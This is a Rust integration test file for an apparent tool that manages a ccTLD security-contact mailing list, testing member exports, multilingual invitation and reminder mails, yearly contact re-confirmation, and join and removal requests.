    assert_eq!(doc["schema"], "tldops-members");
    assert_eq!(doc["schema_version"], 1);
    assert_eq!(doc["list"], "TLD-OPS");
    assert_eq!(doc["region"], "APTLD");
    assert_eq!(doc["tld_count"], 2);
    assert_eq!(doc["member_count"], 3);
    assert!(
        doc["generated_at"].as_str().unwrap().ends_with('Z'),
        "{doc}"
    );
    let tlds = doc["tlds"].as_array().unwrap();
    assert_eq!(tlds[0]["tld"], "jp");
    assert_eq!(tlds[0]["unicode"], serde_json::Value::Null);
    assert_eq!(tlds[0]["country"], "Japan");
    assert_eq!(tlds[0]["region"], "APTLD");
    assert_eq!(
        tlds[0]["contacts"],
        serde_json::json!([
            {"name": "山田 太郎", "email": "taro@jprs.example", "phone": "+81 3 5215 8451"},
            {"name": "Hanako \"H\" Suzuki", "email": "hanako@jprs.example", "phone": null},
        ])
    );
    assert_eq!(tlds[1]["tld"], "xn--fiqs8s");
    assert_eq!(tlds[1]["unicode"], "中国");
    // Every key the schema documents, and no other.
    let keys = |v: &serde_json::Value| -> Vec<String> {
        let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
        k.sort();
        k
    };
    assert_eq!(
        keys(&doc),
        [
            "generated_at",
            "list",
            "member_count",
            "region",
            "schema",
            "schema_version",
            "tld_count",
            "tlds"
        ]
    );
    assert_eq!(
        keys(&tlds[0]),
        ["contacts", "country", "region", "tld", "unicode"]
    );
    assert_eq!(keys(&tlds[0]["contacts"][0]), ["email", "name", "phone"]);
    let documented = std::fs::read_to_string("docs/members-export.md").unwrap();
    for key in keys(&doc)
        .iter()
        .chain(&keys(&tlds[0]))
        .chain(&keys(&tlds[0]["contacts"][0]))
    {
        assert!(
            documented.contains(&format!("`{key}`")),
            "docs/members-export.md does not document `{key}`"
        );
    }

    // CSV and vCard: the same members, in the formats they always had.
    let csv = i.ok(&["members", "export", "--region", "APTLD", "--format", "csv"]);
    assert_eq!(
        csv,
        "tld,email,name,phone\njp,taro@jprs.example,山田 太郎,\"'+81 3 5215 8451\"\n\
         jp,hanako@jprs.example,\"Hanako \"\"H\"\" Suzuki\",\nxn--fiqs8s,wei@cnnic.example,张伟,\n"
    );
    let vcard = i.ok(&[
        "members", "export", "--region", "CENTR", "--format", "vcard",
    ]);
    assert_eq!(vcard.matches("BEGIN:VCARD").count(), 1, "{vcard}");
    assert!(vcard.contains("FN:Jansen\\, Jan\r\n"), "{vcard}");

    // A region without members is an empty export, not an error; into a private file.
    let out = i.path("lactld.json");
    let said = i.ok(&[
        "members",
        "export",
        "--region",
        "LACTLD",
        "--format",
        "json",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(said, format!("0 members written to {}\n", out.display()));
    let empty: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(empty["tlds"], serde_json::json!([]));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let bad = i.run(&["members", "export", "--region", "EUROPE"]);
    assert_eq!(bad.code, 2);
}

/// The last mail of `kind` to `to` that the file transport wrote.
fn mail_of(i: &Install, kind: &str, to: &str) -> (tldops::domain::message::Inbound, Vec<u8>) {
    let (_, m, raw) = sent(i)
        .into_iter()
        .filter(|(name, m, _)| {
            name.starts_with(kind)
                || m.message_id
                    .as_deref()
                    .is_some_and(|id| id.starts_with(kind))
        })
        .rfind(|(_, m, _)| m.to.iter().any(|t| t.address == to))
        .unwrap_or_else(|| panic!("no {kind} to {to}"));
    (m, raw)
}

#[test]
fn each_cctld_gets_its_mail_in_its_language_with_the_english_below() {
    let i = fresh();
    // The default by country, one set in the roster, one set back to the default.
    let said = i.ok(&["roster", "set", "be", "--language", "fr"]);
    assert_eq!(said, ".be: mail in French (fr, set in the roster)\n");
    i.ok(&["roster", "set", "mx", "--language", "default"]);
    let show = i.json(&["roster", "show", "ae", "--json"]);
    assert_eq!(show["language"], "ar");
    assert_eq!(show["language_source"], "default");
    let show = i.json(&["roster", "show", "be", "--json"]);
    assert_eq!(
        (&show["language"], &show["language_source"]),
        (&"fr".into(), &"roster".into())
    );
    assert!(
        show["events"][0]["detail"]["changes"][0]
            .as_str()
            .unwrap()
            .contains("language `` → `fr`")
    );
    let bad = i.run(&["roster", "set", "be", "--language", "de"]);
    assert_eq!(bad.code, 2);
    assert!(
        bad.stderr.contains("unknown language `de`"),
        "{}",
        bad.stderr
    );

    let cases = [
        (
            "nl",
            "directie@sidn.example",
            "Dear Ann de Vries,",
            "Invitation to name",
        ),
        (
            "be",
            "admin@dnsbelgium.example",
            "Bonjour Bea Voorbeeld,",
            "Invitation à désigner",
        ),
        (
            "mx",
            "dominio@nic-mx.example",
            "Estimado/a José Núñez:",
            "Invitación a designar",
        ),
        (
            "ae",
            "admin@tdra.example",
            "السيد/السيدة Fatima Al Mansoori المحترم/ة،",
            "دعوة إلى تسمية",
        ),
        (
            "xn--p1ai",
            "admin@координация.example",
            "Уважаемый(-ая) Ivan Primerov!",
            "Приглашение назначить",
        ),
        (
            "cn",
            "admin@cnnic.example",
            "尊敬的 Wei Zhang：",
            "邀请您指定",
        ),
    ];
    let mut args = vec!["invite", "--tld"];
    args.extend(cases.iter().map(|c| c.0));
    let out = i.ok(&args);
    assert!(out.contains("sent 6 mails"), "{out}");
    for (tld, admin, greeting, subject) in cases {
        let (m, raw) = mail_of(&i, "invitation", admin);
        let token: String = i.scalar(&format!("SELECT token FROM cases WHERE tld = '{tld}'"));
        // The tag is the same in every language, at the head of the subject.
        let tag = format!("[TLD-OPS .{tld} #{token}] ");
        assert!(
            m.subject.starts_with(&format!("{tag}{subject}")),
            "{}",
            m.subject
        );
        assert!(m.text.starts_with(greeting), ".{tld}: {}", m.text);
        // The text travels encoded (the IDN address of .рф may be UTF-8 in the header).
        let split = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
        let head = String::from_utf8_lossy(&raw[..split]).to_string();
        assert!(raw[split..].is_ascii(), ".{tld}: 8-bit bytes in the body");
        assert!(head.contains("charset=utf-8"), "{head}");
        if tld == "nl" {
            assert!(!m.text.contains("----- English -----"), "{}", m.text);
        } else {
            let (local, english) = m.text.split_once("----- English -----").unwrap();
            assert!(
                local.contains(admin) || tld == "xn--p1ai",
                ".{tld}: {local}"
            );
            assert!(
                english
                    .contains("Please reply to this message from your IANA administrative address"),
                ".{tld}: {english}"
            );
            assert!(
                m.subject
                    .contains(" / Invitation to name the security contacts of "),
                "{}",
                m.subject
            );
        }
    }

    // A reply keeps the tag, whatever language its subject is in: matched as before.
    let (ae, _) = mail_of(&i, "invitation", "admin@tdra.example");
    let tagged_reply = format!(
        "From: Omar <omar@tdra.example>\r\nTo: secretariat@ccnso.example.org\r\n\
         Subject: رد: {}\r\nMessage-ID: <ar-reply@tdra.example>\r\n\
         Date: Tue, 3 Mar 2026 10:00:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         جهة الاتصال: Omar Al Hashimi <omar@tdra.example>\r\n",
        ae.subject
    );
    poll(&i, &[tagged_reply.into_bytes()]);
    let msgs = i.json(&["messages", "--json", "--tld", "ae"]);
    assert_eq!(msgs[0]["verdict"], "unverified", "{msgs}");
    assert!(msgs[0]["why"].as_str().unwrap().contains("tag"), "{msgs}");

    // Reminders and notices follow the language too.
    i.ok(&["chase", "--tld", "ae"]);
    let (reminder, _) = mail_of(&i, "reminder", "admin@tdra.example");
    assert!(
        reminder.subject.starts_with("Re: [TLD-OPS .ae #"),
        "{}",
        reminder.subject
    );
    assert!(
        reminder
            .subject
            .contains("تذكير: جهات الاتصال الأمنية للنطاق .ae / Reminder: security contacts of .ae"),
        "{}",
        reminder.subject
    );
    poll(
        &i,
        &[reply(
            &i,
            "be",
            "admin@dnsbelgium.example",
            "",
            "Contact: Jan Peeters <jan.peeters@dnsbelgium.example>",
        )],
    );
    i.ok(&["approve", "be"]);
    let (approval, _) = mail_of(&i, "approval", "admin@dnsbelgium.example");
    assert!(
        approval.subject.starts_with("[TLD-OPS .be #"),
        "{}",
        approval.subject
    );
    assert!(
        approval
            .subject
            .ends_with("] .be est inscrit sur TLD-OPS / .be is on TLD-OPS"),
        "{}",
        approval.subject
    );
    let (welcome, _) = mail_of(&i, "welcome", "jan.peeters@dnsbelgium.example");
    assert!(
        welcome.text.starts_with("Bonjour Jan Peeters,"),
        "{}",
        welcome.text
    );
    poll(
        &i,
        &[reply(
            &i,
            "cn",
            "admin@cnnic.example",
            "",
            "联系人：Li Wang <li@cnnic.example>",
        )],
    );
    i.ok(&[
        "reject",
        "cn",
        "--reason",
        "The reply names no phone number.",
    ]);
    let (rejection, _) = mail_of(&i, "rejection", "admin@cnnic.example");
    assert!(
        rejection.text.contains("感谢我们收到的关于 .cn 的回复。"),
        "{}",
        rejection.text
    );
    assert!(
        rejection
            .text
            .contains("\n\nThe reply names no phone number.\n\n"),
        "{}",
        rejection.text
    );

    // The roster's `language` column sets it; without the column a re-import keeps it.
    let csv = i.path("languages.csv");
    std::fs::write(
        &csv,
        "tld,country,admin_name,admin_email,tech_name,tech_email,region,language\n\
         nl,Netherlands,Ann de Vries,directie@sidn.example,Tom Bakker,support@sidn.example,CENTR,es\n\
         ae,United Arab Emirates,Fatima Al Mansoori,admin@tdra.example,Omar Al Hashimi,tech@tdra.example,APTLD,\n",
    )
    .unwrap();
    i.ok(&["roster", "import", "--merge", csv.to_str().unwrap()]);
    assert_eq!(
        i.json(&["roster", "show", "nl", "--json"])["language"],
        "es"
    );
    i.ok(&["roster", "import", "tests/corpus/roster.csv"]);
    assert_eq!(
        i.json(&["roster", "show", "nl", "--json"])["language"],
        "es"
    );
    assert_eq!(
        i.json(&["roster", "show", "be", "--json"])["language"],
        "fr"
    );
    std::fs::write(
        &csv,
        "tld,country,admin_name,admin_email,tech_name,tech_email,region,language\n\
         nl,Netherlands,Ann de Vries,directie@sidn.example,Tom Bakker,support@sidn.example,CENTR,nl\n",
    )
    .unwrap();
    let bad = i.run(&["roster", "import", "--merge", csv.to_str().unwrap()]);
    assert!(
        bad.stderr
            .contains("line 2: language: unknown language `nl`"),
        "{}",
        bad.stderr
    );
}

/// A verified reply from `admin` in the thread of the open round of `tld` (a re-confirmation
/// or a request put to the admin).
fn round_reply(i: &Install, tld: &str, admin: &str, body: &str) -> Vec<u8> {
    let round: String = i.scalar(&format!(
        "SELECT round_message_id FROM cases WHERE tld = '{tld}'"
    ));
    format!(
        "From: {admin}\r\nTo: secretariat@ccnso.example.org\r\n\
         Subject: Re: [TLD-OPS .{tld}] Please confirm\r\nMessage-ID: <round.{tld}.{}@mail.example>\r\n\
         In-Reply-To: <{round}>\r\nReferences: <{round}>\r\n\
         Date: Tue, 3 Mar 2026 10:00:00 +0000\r\n\r\n{body}\r\n",
        body.len()
    )
    .into_bytes()
}

fn queue_kinds(i: &Install, tld: &str) -> Vec<String> {
    i.json(&["queue", "--json"])
        .as_array()
        .unwrap()
        .iter()
        .filter(|q| q["tld"] == tld)
        .map(|q| q["kind"].as_str().unwrap().to_string())
        .collect()
}

fn queue_why(i: &Install, tld: &str, kind: &str) -> String {
    i.json(&["queue", "--json"])
        .as_array()
        .unwrap()
        .iter()
        .find(|q| q["tld"] == tld && q["kind"] == kind)
        .unwrap_or_else(|| panic!("no {kind} item for .{tld}"))["why"]
        .as_str()
        .unwrap()
        .to_string()
}

/// DESIGN §8.4 and §8.3: a year after the approval the admin contact is mailed the contacts
/// and asked to confirm; unanswered, reminded in the thread, then lapsed (queue, stats,
/// digest) with the members kept; a confirming reply is one action; a reply naming others is
/// an update with its diff; a changed IANA admin makes the round due at once.
#[test]
fn contacts_are_reconfirmed_every_year_and_after_an_admin_change() {
    let i = fresh();
    approved(
        &i,
        "be",
        "admin@dnsbelgium.example",
        &["jan@dnsbelgium.example, Jan Peeters, +32 16 28 49 70"],
    );
    approved(
        &i,
        "nl",
        "directie@sidn.example",
        &["piet@sidn.example, Piet Pieters"],
    );
    // Just approved: nothing is due.
    let none = i.ok(&["reconfirm", "--due", "--dry-run"]);
    assert!(none.contains("Nothing to do"), "{none}");
    assert!(!queue_kinds(&i, "be").contains(&"reconfirm".to_string()));

    // A year on (the approval and its reply moved back), .be is due.
    i.db()
        .execute_batch(
            "UPDATE cases SET confirmed_at = '2025-01-02T10:00:00Z', decided_at = '2025-01-02T10:00:00Z'
                 WHERE tld IN ('be', 'nl');
             UPDATE messages SET ingested_at = '2025-01-01T10:00:00Z', filed_at = NULL;",
        )
        .unwrap();
    assert!(
        queue_why(&i, "be", "reconfirm").contains("last confirmed 2025-01-02"),
        "{:?}",
        queue_kinds(&i, "be")
    );
    let plan = i.json(&["reconfirm", "--due", "--dry-run", "--json"]);
    assert_eq!(plan["dry_run"], true);
    assert_eq!(plan["mails"].as_array().unwrap().len(), 2, "{plan}");
    assert_eq!(
        i.scalar::<i64>("SELECT count(*) FROM outbox WHERE kind = 'reconfirm'"),
        0
    );

    let done = i.ok(&["reconfirm", "--due"]);
    assert!(done.contains(".be: asked to confirm 1 contact"), "{done}");
    let (ask, _) = mail_of(&i, "reconfirm", "admin@dnsbelgium.example");
    assert!(ask.subject.starts_with("[TLD-OPS .be #"), "{}", ask.subject);
    assert!(
        ask.text
            .contains("Jan Peeters <jan@dnsbelgium.example>, +32 16 28 49 70"),
        "{}",
        ask.text
    );
    assert!(ask.text.contains("2025-01-02"), "{}", ask.text);
    assert!(
        queue_kinds(&i, "be").is_empty(),
        "{:?}",
        queue_kinds(&i, "be")
    );
    // Asked again at once: nothing due yet.
    assert!(i.ok(&["reconfirm", "--due"]).contains("nothing to do"));

    // Two weeks without an answer: a reminder in the thread.
    i.db()
        .execute(
            "UPDATE cases SET round_sent_at = '2025-06-01T10:00:00Z' WHERE tld IN ('be', 'nl')",
            [],
        )
        .unwrap();
    assert!(queue_why(&i, "be", "reconfirm").contains("reminder 1 is due"));
    let reminded = i.ok(&["reconfirm", "--due"]);
    assert!(
        reminded.contains(".be: re-confirmation reminder 1"),
        "{reminded}"
    );
    let (reminder, _) = mail_of(&i, "reconfirm", "admin@dnsbelgium.example");
    assert!(
        reminder.subject.starts_with("Re: [TLD-OPS .be #"),
        "{}",
        reminder.subject
    );
    assert_eq!(reminder.in_reply_to, vec![ask.message_id.clone().unwrap()]);

    // .be confirms in words; .nl never answers and lapses.
    poll(
        &i,
        &[round_reply(
            &i,
            "be",
            "admin@dnsbelgium.example",
            "Hello, I confirm: these contacts are still correct.",
        )],
    );
    assert!(queue_why(&i, "be", "confirm").contains("says the contacts are right"));
    let plan = i.ok(&["confirm", "be", "--dry-run"]);
    assert!(
        plan.contains(".be: the admin contact confirmed 1 contact"),
        "{plan}"
    );
    i.ok(&["confirm", "be"]);
    assert!(
        queue_kinds(&i, "be").is_empty(),
        "{:?}",
        queue_kinds(&i, "be")
    );
    let today: String = i.scalar("SELECT substr(confirmed_at, 1, 10) FROM cases WHERE tld = 'be'");
    assert_eq!(today, jiff::Timestamp::now().to_string()[..10]);
    let refused = i.run(&["confirm", "be"]);
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("no re-confirmation is open"),
        "{}",
        refused.stderr
    );

    i.db()
        .execute(
            "UPDATE cases SET round_reminders = 3, round_reminded_at = '2025-07-02T10:00:00Z' WHERE tld = 'nl'",
            [],
        )
        .unwrap();
    assert!(
        queue_why(&i, "nl", "lapsed").contains("not confirmed since 2025-01-02"),
        "{:?}",
        queue_kinds(&i, "nl")
    );
    let stats = i.json(&["stats", "--json"]);
    assert_eq!(stats["lapsed"], 1, "{stats}");
    assert_eq!(stats["confirmed_within_year"], 1, "{stats}");
    let digest = i.ok(&["digest"]);
    assert!(
        digest.contains(".nl  Netherlands  (not confirmed since 2025-01-02)"),
        "{digest}"
    );
    assert!(
        digest.contains("  Piet Pieters <piet@sidn.example>"),
        "{digest}"
    );
    assert_eq!(
        i.scalar::<i64>("SELECT count(*) FROM contacts WHERE tld = 'nl' AND state = 'subscribed'"),
        1,
        "members are never removed without an operator"
    );
    let skipped = i.ok(&["reconfirm", "--tld", "nl"]);
    assert!(skipped.contains("skipped .nl: lapsed"), "{skipped}");

    // The IANA admin of .be changes: the members stay, the new admin re-confirms at once.
    let roster = std::fs::read_to_string("tests/corpus/roster.csv")
        .unwrap()
        .replace("admin@dnsbelgium.example", "new-admin@dnsbelgium.example");
    std::fs::write(i.path("roster.csv"), roster).unwrap();
    i.ok(&["roster", "import", i.path("roster.csv").to_str().unwrap()]);
    assert_eq!(case_state(&i, "be"), "approved");
    assert!(
        queue_why(&i, "be", "reconfirm").contains("admin address changed"),
        "{:?}",
        queue_kinds(&i, "be")
    );
    i.ok(&["reconfirm", "--due"]);
    let (asked, _) = mail_of(&i, "reconfirm", "new-admin@dnsbelgium.example");
    assert!(
        asked.text.contains("jan@dnsbelgium.example"),
        "{}",
        asked.text
    );

    // The new admin names someone else: an update with its diff, approved as ever.
    poll(
        &i,
        &[round_reply(
            &i,
            "be",
            "new-admin@dnsbelgium.example",
            "Please replace Jan. Our contact: Ann Claes <ann@dnsbelgium.example> +32 16 00 00 00",
        )],
    );
    let why = queue_why(&i, "be", "update");
    assert!(
        why.contains("adds Ann Claes <ann@dnsbelgium.example>"),
        "{why}"
    );
    assert!(
        why.contains("removes Jan Peeters <jan@dnsbelgium.example>"),
        "{why}"
    );
    i.ok(&["approve", "be"]);
    assert!(
        queue_kinds(&i, "be").is_empty(),
        "{:?}",
        queue_kinds(&i, "be")
    );
    let round: Option<String> = i.scalar("SELECT round FROM cases WHERE tld = 'be'");
    assert_eq!(round, None);
    let log = i.json(&["log", "--json", "--tld", "be"]);
    let actions: Vec<&str> = log
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    for want in [
        "reconfirm_requested",
        "reconfirm_reminded",
        "confirmed",
        "admin_changed",
    ] {
        assert!(actions.contains(&want), "{want}: {actions:?}");
    }
    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
}

/// A message from someone outside any thread of ours.
fn letter(from: &str, subject: &str, body: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: secretariat@ccnso.example.org\r\nSubject: {subject}\r\n\
         Message-ID: <letter.{}.{}@mail.example>\r\nDate: Tue, 3 Mar 2026 10:00:00 +0000\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n",
        subject.len(),
        body.len()
    )
    .into_bytes()
}

fn message_number(i: &Install, from: &str) -> i64 {
    i.scalar(&format!(
        "SELECT id FROM messages WHERE from_addr = '{from}' ORDER BY id DESC LIMIT 1"
    ))
}

/// DESIGN §8.2: a member's own "please remove me" is a request; one action removes them,
/// tells them and copies the admin contact; the log still explains the members.
#[test]
fn a_member_who_asks_to_leave_is_removed_in_one_action() {
    let i = fresh();
    approved(
        &i,
        "be",
        "admin@dnsbelgium.example",
        &[
            "jan@dnsbelgium.example, Jan Peeters",
            "els@dnsbelgium.example, Els Janssens",
        ],
    );
    poll(
        &i,
        &[letter(
            "Jan Peeters <jan@dnsbelgium.example>",
            "TLD-OPS",
            "Hello,\r\n\r\nI am changing jobs: please unsubscribe me from the list.\r\n\r\nJan",
        )],
    );
    let listed = i.json(&["messages", "--json", "--verdict", "request"]);
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed}");
    assert_eq!(listed[0]["tld"], "be");
    let n = message_number(&i, "jan@dnsbelgium.example");
    let why = queue_why(&i, "be", "remove");
    assert!(why.contains("asks to leave"), "{why}");
    let table = i.ok(&["queue"]);
    assert!(
        table.contains(&format!("remove them: `tldops remove --message {n}`")),
        "{table}"
    );

    let plan = i.ok(&["remove", "--message", &n.to_string(), "--dry-run"]);
    assert!(
        plan.contains("Remove from .be: Jan Peeters <jan@dnsbelgium.example>"),
        "{plan}"
    );
    assert!(
        plan.contains(
            "Mail: the removal notice to jan@dnsbelgium.example (cc admin@dnsbelgium.example)"
        ),
        "{plan}"
    );
    i.ok(&["remove", "--message", &format!("#{n}")]);
    let (notice, _) = mail_of(&i, "removal", "jan@dnsbelgium.example");
    assert_eq!(notice.cc[0].address, "admin@dnsbelgium.example");
    assert!(
        notice.text.contains("jan@dnsbelgium.example is no longer"),
        "{}",
        notice.text
    );
    let members: i64 =
        i.scalar("SELECT count(*) FROM contacts WHERE tld = 'be' AND state = 'subscribed'");
    assert_eq!(members, 1);
    assert!(
        queue_kinds(&i, "be").is_empty(),
        "{:?}",
        queue_kinds(&i, "be")
    );
    let again = i.run(&["remove", "--message", &n.to_string()]);
    assert_eq!(again.code, 2, "{}", again.stderr);
    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
}

/// DESIGN §8.1: someone who is not an admin asks to join; the operator asks the admin, whose
/// verified reply makes the requester a proposal; approved as for an invitation. For an
/// approved ccTLD the same flow adds to its contacts and keeps the others.
#[test]
fn a_request_is_authorised_by_the_admin_contact() {
    let i = fresh();
    // In French, from a personal address, naming the ccTLD.
    poll(
        &i,
        &[letter(
            "Marie Dupont <marie.dupont@gmail.example>",
            "Inscription à la liste",
            "Bonjour,\r\n\r\nJe suis responsable de la sécurité de .fr et je souhaite m'inscrire \
             à la liste TLD-OPS.\r\n\r\nMarie Dupont\r\n+33 1 39 30 83 00",
        )],
    );
    let n = message_number(&i, "marie.dupont@gmail.example");
    let listed = i.json(&["messages", "--json", "--verdict", "request"]);
    assert_eq!(listed[0]["tld"], "fr", "{listed}");
    assert_eq!(
        listed[0]["contacts"][0]["email"], "marie.dupont@gmail.example",
        "{listed}"
    );
    // The table names the command that does it; the JSON (and the TUI) say what to do.
    assert!(queue_why(&i, "fr", "request").ends_with(": ask the admin"));
    assert!(
        i.ok(&["queue"])
            .contains(&format!("ask the admin: `tldops ask fr --message {n}`"))
    );

    let plan = i.ok(&["ask", "fr", "--message", &n.to_string(), "--dry-run"]);
    assert!(plan.contains(".fr: uninvited → invited"), "{plan}");
    assert!(
        plan.contains("Requested: add Marie Dupont <marie.dupont@gmail.example>"),
        "{plan}"
    );
    assert!(
        plan.contains("Mail: the request for authorisation to hostmaster@afnic.example"),
        "{plan}"
    );
    i.ok(&["ask", "fr", "--message", &n.to_string()]);
    assert_eq!(case_state(&i, "fr"), "invited");
    let (ask, _) = mail_of(&i, "request", "hostmaster@afnic.example");
    assert!(ask.subject.starts_with("[TLD-OPS .fr #"), "{}", ask.subject);
    assert!(
        ask.text.contains("marie.dupont@gmail.example asks to join"),
        "{}",
        ask.text
    );
    assert!(
        ask.text
            .contains("+ Marie Dupont <marie.dupont@gmail.example>"),
        "{}",
        ask.text
    );
    assert!(
        queue_kinds(&i, "fr").is_empty(),
        "{:?}",
        queue_kinds(&i, "fr")
    );

    // The admin agrees in the thread: the requester is proposed; approved as ever.
    poll(
        &i,
        &[reply(
            &i,
            "fr",
            "hostmaster@afnic.example",
            "",
            "Oui, d'accord.",
        )],
    );
    assert_eq!(case_state(&i, "fr"), "answered");
    assert!(queue_kinds(&i, "fr").contains(&"decide".to_string()));
    i.ok(&["approve", "fr"]);
    let members: i64 = i.scalar(
        "SELECT count(*) FROM contacts WHERE tld = 'fr' AND state = 'subscribed' AND email = 'marie.dupont@gmail.example'",
    );
    assert_eq!(members, 1);

    // An approved ccTLD: a colleague writes from the registry's domain.
    approved(
        &i,
        "be",
        "admin@dnsbelgium.example",
        &["jan@dnsbelgium.example, Jan Peeters"],
    );
    i.db()
        .execute_batch(
            "UPDATE cases SET decided_at = '2025-01-02T10:00:00Z', confirmed_at = '2025-01-02T10:00:00Z'
                 WHERE tld = 'be';
             UPDATE messages SET ingested_at = '2025-01-01T10:00:00Z' WHERE tld = 'be';",
        )
        .unwrap();
    poll(
        &i,
        &[letter(
            "Ann Claes <ann@dnsbelgium.example>",
            "Access to TLD-OPS",
            "Hi, could you please add me to the TLD-OPS list? I joined the CERT team.\r\n\r\n\
             Ann Claes\r\n+32 16 28 49 71",
        )],
    );
    let m = message_number(&i, "ann@dnsbelgium.example");
    assert!(
        queue_why(&i, "be", "request").contains("whose registry writes from dnsbelgium.example")
    );
    let plan = i.ok(&["ask", "be", "--message", &m.to_string(), "--dry-run"]);
    assert!(!plan.contains("approved →"), "{plan}");
    i.ok(&["ask", "be", "--message", &m.to_string()]);
    assert_eq!(case_state(&i, "be"), "approved");
    let (ask, _) = mail_of(&i, "request", "admin@dnsbelgium.example");
    assert!(
        ask.text.contains("  Jan Peeters <jan@dnsbelgium.example>"),
        "{}",
        ask.text
    );
    assert!(
        ask.text.contains("+ Ann Claes <ann@dnsbelgium.example>"),
        "{}",
        ask.text
    );
    poll(
        &i,
        &[round_reply(
            &i,
            "be",
            "admin@dnsbelgium.example",
            "Yes, please add Ann.",
        )],
    );
    let why = queue_why(&i, "be", "update");
    assert!(
        why.contains("adds Ann Claes <ann@dnsbelgium.example>"),
        "{why}"
    );
    assert!(!why.contains("removes"), "{why}");
    i.ok(&["approve", "be"]);
    let members: i64 =
        i.scalar("SELECT count(*) FROM contacts WHERE tld = 'be' AND state = 'subscribed'");
    assert_eq!(members, 2);
    assert!(
        queue_kinds(&i, "be").is_empty(),
        "{:?}",
        queue_kinds(&i, "be")
    );
    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
}

/// An unverified reply that names nobody: approving it is refused for what matters first (there
/// is nothing to approve), not by asking for an override reason that could not help.
#[test]
fn approving_nothing_says_so_before_asking_for_an_override() {
    let i = fresh();
    i.ok(&["invite", "--tld", "ch"]);
    poll(
        &i,
        &[reply(
            &i,
            "ch",
            "someone@elsewhere.example",
            "",
            "We received your mail and will come back to you.",
        )],
    );
    let out = i.run(&["approve", "ch"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("no proposed contacts to approve") && !out.stderr.contains("override"),
        "{}",
        out.stderr
    );
}

/// Contacts an operator edited are what waits for the decision: the queue said the reply
/// named none once the edit had replaced its proposals.
#[test]
fn the_queue_counts_the_contacts_as_edited() {
    let i = fresh();
    i.ok(&["invite", "--tld", "be"]);
    poll(
        &i,
        &[reply(
            &i,
            "be",
            "Bea Voorbeeld <admin@dnsbelgium.example>",
            "",
            "Our contacts:\r\nName: Jan Peeters\r\nEmail: jan.peeters@dnsbelgium.example\r\n\r\nName: Els Janssens\r\nEmail: els@cert.example\r\n",
        )],
    );
    let why = |i: &Install| {
        let queue = i.json(&["queue", "--json"]);
        queue[0]["why"].as_str().unwrap().to_string()
    };
    assert!(
        why(&i).starts_with("verified reply (admin_from) naming 2 contacts:"),
        "{}",
        why(&i)
    );
    i.ok(&[
        "contacts",
        "set",
        "be",
        "jan.peeters@dnsbelgium.example, Jan Peeters",
    ]);
    assert!(
        why(&i).starts_with("verified reply (admin_from) its contacts edited to 1 contact:"),
        "{}",
        why(&i)
    );
    // More contacts than list.max_contacts is said when they are set, not first at approval.
    let many = i.ok(&[
        "contacts",
        "set",
        "be",
        "--dry-run",
        "a@dnsbelgium.example",
        "b@dnsbelgium.example",
        "c@dnsbelgium.example",
        "d@dnsbelgium.example",
    ]);
    assert!(
        many.contains(
            "4 contacts are more than list.max_contacts (3): approving them will be refused"
        ),
        "{many}"
    );
    let one = i.ok(&["contacts", "set", "be", "--dry-run", "a@dnsbelgium.example"]);
    assert!(
        one.contains("The proposed contacts of .be become this one"),
        "{one}"
    );
    // `tldops log` tells each event's detail in words, as the TUI does; --json keeps it whole.
    let log = i.ok(&["log"]);
    assert!(log.contains("to admin@dnsbelgium.example"), "{log}");
    assert!(!log.contains("{\""), "no raw JSON: {log}");
    assert!(
        i.ok(&["log", "--json"])
            .contains("\"to\": \"admin@dnsbelgium.example\"")
    );
    // Inviting it again says what it sets aside.
    let again = i.ok(&["invite", "--tld", "be", "--again", "--dry-run"]);
    assert!(
        again.contains(
            ".be was answered: its reply (1 proposed contact) is set aside undecided, and the \
             case waits for a new one"
        ),
        "{again}"
    );
}
